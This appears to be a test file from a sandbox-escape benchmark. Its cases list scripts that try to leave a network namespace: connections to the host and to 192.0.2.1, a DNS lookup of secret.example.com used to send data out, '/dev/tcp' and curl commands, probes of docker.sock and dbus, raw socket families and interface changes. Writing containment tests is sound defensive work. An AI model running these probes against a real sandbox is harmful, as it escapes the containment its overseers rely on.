"""Network: out of the machine, to other programs of the machine, by other families of sockets."""

from __future__ import annotations

from benchmarks.escapes.judging import Case

NAMESPACE = "network namespace"

CASES = (
    Case(
        "TCP to the machine",
        "A script connects to a server on the machine that audits.",
        """
import socket
for address in ("127.0.0.1", os.environ["W_ADDRESS"], "0.0.0.0", "localhost"):
    attempt(socket.create_connection, (address, int(os.environ["W_PORT"])), 1)
attempt(socket.create_connection, ("::1", int(os.environ["W_PORT"])), 1)
""",
        NAMESPACE,
    ),
    Case(
        "UDP to the machine",
        "A script sends datagrams out of the sandbox.",
        """
import socket
for address in ("127.0.0.1", os.environ["W_ADDRESS"], "255.255.255.255", "192.0.2.1"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        try:
            sender.sendto(b"hello", (address, int(os.environ["W_UDP"])))
        except OSError as error:
            print("refused:", error)
""",
        NAMESPACE,
        seen="network: connects to 192.0.2.1",
    ),
    Case(
        "the internet",
        "A script downloads from or uploads to the internet.",
        """
import socket, urllib.request
attempt(socket.create_connection, ("192.0.2.1", 443), 1)
attempt(socket.create_connection, ("2001:db8::1", 443), 1)
attempt(urllib.request.urlopen, "http://192.0.2.1/weights.bin", None, 1)
""",
        NAMESPACE,
        seen="network: asks for http://192.0.2.1/weights.bin",
    ),
    Case(
        "names",
        "A script sends data out in the names it looks up.",
        """
import socket
attempt(socket.getaddrinfo, "secret.example.com", 80)
attempt(socket.gethostbyname, "secret.example.com")
""",
        NAMESPACE,
        seen="network: looks up secret.example.com",
    ),
    Case(
        "programs that fetch",
        "A program started by the script reaches a server.",
        """
import subprocess
port = os.environ["W_PORT"]
for command in (f"echo hello > /dev/tcp/127.0.0.1/{port}", f"echo hello > /dev/tcp/{os.environ['W_ADDRESS']}/{port}",
                f"curl -m 1 http://{os.environ['W_ADDRESS']}:{port}/"):
    subprocess.run(["bash", "-c", command], capture_output=True)
""",
        NAMESPACE,
        record="curl -m 1",
    ),
    Case(
        "abstract sockets",
        "A script connects to an abstract Unix socket of the machine, which no file guards.",
        """
import socket
attempt(socket.socket(socket.AF_UNIX).connect, "\\0" + os.environ["W_ABSTRACT"])
attempt(socket.socket(socket.AF_UNIX).connect, "\\0/tmp/.X11-unix/X0")
""",
        NAMESPACE,
        seen="connects to the socket",
    ),
    Case(
        "named sockets",
        "A script connects to a Unix socket of the machine: an agent, a container engine, a bus.",
        """
import socket
for path in (os.environ["W_SOCKET"], "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/nscd/socket"):
    attempt(socket.socket(socket.AF_UNIX).connect, path)
""",
        "file view",
        seen="connects to the socket",
    ),
    Case(
        "other families of sockets",
        "A script opens a socket of a family that no submission needs: netlink, packets, raw, virtual machine, crypto.",
        """
import socket
netlink = [(16, 3, protocol) for protocol in (4, 6, 9, 12, 15, 16)]
others = [(17, 3, 3), (2, 3, 1), (10, 3, 58), (40, 1, 0), (38, 5, 0), (31, 3, 1), (29, 3, 1), (44, 3, 0), (30, 1, 0)]
for family, kind, protocol in netlink + others:
    attempt(socket.socket, family, kind, protocol)
attempt(socket.socketpair, 16)
""",
        "system call filter, no capabilities",
    ),
    Case(
        "a way out of the namespace",
        "A script adds an address or a route to its network.",
        """
import fcntl, socket, struct
handle = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
address = struct.pack("16sH2s4s8s", b"lo", socket.AF_INET, b"", socket.inet_aton("192.0.2.7"), b"")
attempt(fcntl.ioctl, handle, 0x8916, address)    # SIOCSIFADDR
attempt(fcntl.ioctl, handle, 0x8914, struct.pack("16sH22x", b"lo", 0))  # SIOCSIFFLAGS
attempt(fcntl.ioctl, handle, 0x89A0, b"br0" + bytes(13))  # SIOCBRADDBR
try:
    names = {name for _, name in socket.if_nameindex()}
except OSError:
    names = set()
if names - {"lo"}:
    escaped(names)
""",
        "no capabilities",
    ),
)
